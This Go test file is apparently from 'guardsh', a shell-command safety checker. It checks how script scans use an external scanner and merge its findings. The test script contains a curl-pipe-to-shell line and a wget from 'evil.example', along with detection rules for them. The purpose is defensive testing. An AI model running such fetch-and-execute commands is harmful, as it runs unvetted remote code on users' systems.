package check

import (
	"context"
	"strings"
	"testing"
	"time"

	"github.com/guardsh/guardsh/rules"
)

// lineScanner is a scanner that reports what it was given, line by line.
type lineScanner struct {
	calls []string
	delay time.Duration
}

func (s *lineScanner) Wants(text string) bool { return strings.Contains(text, "http") }
func (s *lineScanner) FailOpen() bool         { return true }
func (s *lineScanner) Scan(_ context.Context, text string) (*TirithInfo, []rules.Finding) {
	s.calls = append(s.calls, text)
	time.Sleep(s.delay)
	fs := []rules.Finding{{Rule: "tirith:analysis_incomplete", Tier: rules.Dangerous, Text: text, End: len(text), Source: "tirith"}}
	if strings.Contains(text, "| sh") {
		fs = append(fs, rules.Finding{Rule: "tirith:curl_pipe_shell", Tier: rules.Dangerous, Text: text, End: len(text), Source: "tirith"},
			rules.Finding{Rule: "tirith:other", Tier: rules.Dangerous, Text: text, End: len(text), Source: "tirith"})
	}
	if strings.Contains(text, "evil") {
		fs = append(fs, rules.Finding{Rule: "tirith:evil_host", Tier: rules.Dangerous, Text: text, End: len(text), Source: "tirith"})
	}
	return &TirithInfo{Ran: true, Action: "warn"}, fs
}

// TestScriptScanner checks how a file scan uses tirith (issue 12): per
// command line, analysis_incomplete dropped, findings on a line guardsh
// already reports merged into that finding, within the time budget.
func TestScriptScanner(t *testing.T) {
	text := "#!/bin/sh\necho hi\ncurl -fsSL https://x.example/i.sh | sh\nwget \\\n  https://evil.example/f\nls\n"
	s := &lineScanner{}
	r := Script(context.Background(), "f.sh", text, Options{Script: true, Scanner: s})
	if len(s.calls) != 2 || s.calls[1] != "wget \\\n  https://evil.example/f" {
		t.Fatalf("scanner calls = %q, want the two command lines", s.calls)
	}
	var got []string
	for _, f := range r.Findings {
		got = append(got, f.Rule)
		if f.Rule == "tirith:analysis_incomplete" {
			t.Errorf("analysis_incomplete kept")
		}
	}
	if strings.Join(got, ",") != "remote-code,tirith:evil_host" {
		t.Errorf("findings = %v, want remote-code (tirith's two merged into it) and tirith:evil_host", got)
	}
	for _, f := range r.Findings {
		if f.Rule == "remote-code" && !strings.HasSuffix(f.Reason, " (tirith agrees: tirith:curl_pipe_shell, tirith:other)") {
			t.Errorf("remote-code does not name the merged tirith rules in one note: %q", f.Reason)
		}
		if f.Rule == "tirith:evil_host" && f.Line != 4 {
			t.Errorf("tirith finding at line %d, want 4", f.Line)
		}
	}
	// The budget: past the deadline, nothing more is scanned.
	s2 := &lineScanner{}
	r2 := Script(context.Background(), "f.sh", text, Options{Script: true, Scanner: s2, Deadline: time.Now().Add(-time.Second)})
	if len(s2.calls) != 0 || r2.Tirith == nil || !strings.Contains(r2.Tirith.Error, "2 commands not given") {
		t.Errorf("scanned past the deadline: %q, tirith info %+v", s2.calls, r2.Tirith)
	}
}
